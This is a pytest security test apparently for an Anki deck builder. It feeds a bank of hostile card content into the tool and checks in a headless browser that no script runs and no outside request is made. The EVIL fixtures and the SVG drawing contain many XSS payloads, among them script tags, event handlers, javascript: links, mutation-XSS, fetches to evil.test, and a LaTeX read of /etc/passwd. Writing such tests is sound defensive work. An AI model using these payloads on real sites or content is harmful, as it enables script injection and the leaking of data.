"""A deck of a hostile bank, imported into Anki and shown in a browser: nothing runs, nothing is fetched."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Final

import pytest
from anki.collection import Collection, ImportAnkiPackageRequest
from playwright.sync_api import Browser, Route

from tests.anki.workshop import build
from tests.safety.hostile import hostile_bank

HOST: Final = "http://cards.test/"
RUNS: Final = "window.hacked=1;document.title='hacked'"
EVIL: Final = {
    "a script": f"<script>{RUNS}</script><script src=http://evil.test/x.js></script>",
    "handlers": f"<img src=x onerror={RUNS}><svg/onload={RUNS}><body onload={RUNS}><details open ontoggle={RUNS}>",
    "attributes": f"\" onmouseover=\"{RUNS}\" x=' onfocus='{RUNS}' autofocus=' `${{{RUNS}}}`",
    "addresses": f"<a href='javascript:{RUNS}'>y</a> <a href=' java&#10;script:{RUNS}'>z</a> <http://evil.test>",
    "fetches": "<img src=http://evil.test/a.png><link rel=stylesheet href=http://evil.test/b.css><iframe src=http://evil.test>"
    "<style>@import 'http://evil.test/d.css'</style><video src=http://evil.test/e>",
    "forms": "<form action=http://evil.test><input autofocus></form><meta http-equiv=refresh content=0;url=http://evil.test>"
    "<base href=http://evil.test/>",
    "references": "&#60;script&#62;window.hacked=1&#60;/script&#62; &lt;img src=x onerror=window.hacked=1&gt;",
    "a mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUNS}>'>",
    "anki": "{{Stem}} {{c1::x}} {{#Tags}} [sound:http://evil.test/s.mp3] [latex]\\input{/etc/passwd}[/latex] [$]x[/$]",
    "mathjax": r"$\href{javascript:window.hacked=1}{x}$ \(\require{html}\) $\style{background:url(http://evil.test)}{x}$",
}
OWN: Final = ("http://cards.test/", "data:", "about:")


def cards(folder: Path, evil: str, **header: str) -> list[tuple[str, str]]:
    """Return the two sides of every card, as Anki renders them."""
    drawing = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUNS}"><script>{RUNS}</script>'
        '<image href="http://evil.test/i.png"/><style>@import "http://evil.test/s.css";</style></svg>'
    )
    (folder / "a.svg").write_text(drawing, encoding="utf-8")
    bank = hostile_bank(folder / "b.yaml", f"![{re.sub(r'[][{}]', '', evil)}](a.svg) {evil}", **header)
    built = build(bank, folder / "b.apkg", "--lang", "en")
    assert built.code == 0, built.messages
    collection = Collection(str(folder / "c.anki2"))
    try:
        collection.import_anki_package(ImportAnkiPackageRequest(package_path=str(built.package)))
        found = [collection.get_card(card) for card in collection.find_cards("")]
        assert len(found) >= 12
        return [(card.question(), card.answer()) for card in found]
    finally:
        collection.close()


@pytest.mark.parametrize("html", ["escape", "allow"])
@pytest.mark.parametrize("kind", EVIL)
def test_no_card_of_a_hostile_bank_runs_or_fetches_anything(
    kind: str, html: str, browser: Browser, tmp_path: Path
) -> None:
    asked: list[str] = []
    header = {"html": "allow"} if html == "allow" else {}
    sides = [side for card in cards(tmp_path, EVIL[kind], **header) for side in card]
    drawing = (tmp_path / "a.svg").read_bytes()

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        if route.request.url == HOST:
            body = "".join(f"<div class=card>{side}</div>" for side in sides)
            route.fulfill(body=f"<!doctype html><meta charset=utf-8><body>{body}", content_type="text/html")
        else:
            route.fulfill(body=drawing, content_type="image/svg+xml")

    page = browser.new_page()
    page.route("**/*", answer)
    page.goto(HOST)
    for target in page.locator(".card a, .card img").all()[:40]:
        target.dispatch_event("mouseover")
        target.dispatch_event("focus")
    page.wait_for_timeout(50)
    assert page.evaluate("window.hacked") is None
    assert page.title() != "hacked"
    assert [url for url in asked if not url.startswith(OWN)] == []
    assert any(url.endswith(".svg") for url in asked)
    links = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    page.close()
